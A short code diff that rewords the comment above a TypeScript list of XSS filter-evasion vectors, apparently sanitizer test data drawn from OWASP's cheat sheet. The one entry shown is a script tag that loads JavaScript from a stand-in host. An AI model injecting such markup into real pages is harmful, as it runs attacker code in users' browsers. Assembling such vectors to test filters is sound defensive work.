@@ -1,6 +1,6 @@
 /**
- * What people try: the vectors of OWASP's Cross-Site Scripting Filter Evasion Cheat Sheet, with those of mutation and
- * namespace confusion that came after it.
+ * The vectors of OWASP's Cross-Site Scripting Filter Evasion Cheat Sheet, plus later ones of mutation and namespace
+ * confusion.
  */
 export const hostileMarkup: readonly string[] = [
   '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
